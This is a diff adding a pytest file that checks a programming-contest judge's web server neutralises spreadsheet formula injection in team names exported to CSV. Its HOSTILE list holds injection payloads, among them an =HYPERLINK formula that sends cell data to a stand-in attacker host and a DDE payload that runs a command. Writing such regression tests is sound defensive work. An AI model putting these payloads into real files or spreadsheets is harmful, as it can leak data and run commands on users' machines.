@@ -1,0 +1,76 @@
+"""`judge serve` against the attacker's later findings (issue 47, past tests/test_serve_attacks.py's):
+each test is one finding, reproduced on the real app in-process, and what must be true instead. The
+layout findings (a long team name at 390 px, small targets) are in tests/test_serve_browser.py."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+from datetime import datetime, timedelta, timezone
+from html import unescape
+
+import pytest
+
+pytest.importorskip("starlette")
+pytest.importorskip("argon2")
+
+from tcjudge.cli import main  # noqa: E402
+from tcjudge.errors import JudgeInputError  # noqa: E402
+from tcjudge.serve.accounts import make_accounts, read_teams  # noqa: E402
+from tcjudge.serve.grading import materialize, unzip  # noqa: E402
+
+from .test_serve import ACCEPTED, MINIMAL, Site, csrf_of, login, submit  # noqa: E402
+from .test_serve_attacks import api, body, submissions_url, zipped  # noqa: E402
+
+NAMED = re.compile("adder", re.IGNORECASE)  # the contest's one problem, by its id or its name
+
+
+def refusal(page: str) -> str:
+    """The words a page's refusal says (its role=alert paragraph)."""
+    return unescape(re.search(r'role="alert"[^>]*>([^<]*)<', page).group(1))
+
+
+def ask(client, text: str, problem: str = "", **extra):
+    token = csrf_of(client.get("/clarifications").text)
+    return client.post("/clarifications", data={"csrf": token, "text": text, "problem": problem} | extra)
+
+
+# 2. Team names went into the CSV files raw: a team named =HYPERLINK(...) was a formula in the coach's
+# spreadsheet (results.csv, submissions.csv, judge accounts' accounts.csv).
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+           "\tTabbed", "\rReturned", "'=quoted already", "x\r=HYPERLINK(1)"]
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formulas(text: str) -> list[str]:
+    """The cells of a CSV that a spreadsheet would take for a formula (a number is a number)."""
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
+            if cell.startswith(FORMULA) and not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell)]
+
+
+def test_no_csv_cell_is_a_formula_and_the_accounts_csv_reads_back_as_it_was(tmp_path):
+    site = Site(tmp_path)
+    made = make_accounts(site.store, [(name, f"evil{n}") for n, name in enumerate(HOSTILE)], coach=False)
+    for _, username, _ in made:
+        site.store.add_submission(site.store.account(username)["team_id"], "adder", "python3", "a.py", ACCEPTED, False,
+                                  60000)
+    coach = site.client("coach")
+    for path in ("/coach/export.csv", "/coach/submissions.csv"):
+        text = coach.get(path).text
+        assert formulas(text) == [], path
+        teams = {row["team"] for row in csv.DictReader(io.StringIO(text))}
+        assert "'" + HOSTILE[0] in teams and "''=quoted already" in teams, path
+    contest, teams = tmp_path / "practice.yaml", tmp_path / "teams.csv"
+    contest.write_text(MINIMAL)
+    with teams.open("w", newline="") as file:
+        csv.writer(file).writerows([["team"]] + [[name] for name in HOSTILE])
+    out = tmp_path / "slips"
+    assert main(["accounts", str(contest), "--teams", str(teams), "--out", str(out),
+                 "--store", str(tmp_path / "accounts.sqlite")]) == 0
+    written = (out / "accounts.csv").read_text()
+    assert formulas(written) == []
+    # (judge accounts --teams accounts.csv: the names as they were, but for the white space a CSV's cell loses)
+    assert [name for name, _ in read_teams(out / "accounts.csv")] == [name.strip() for name in HOSTILE]
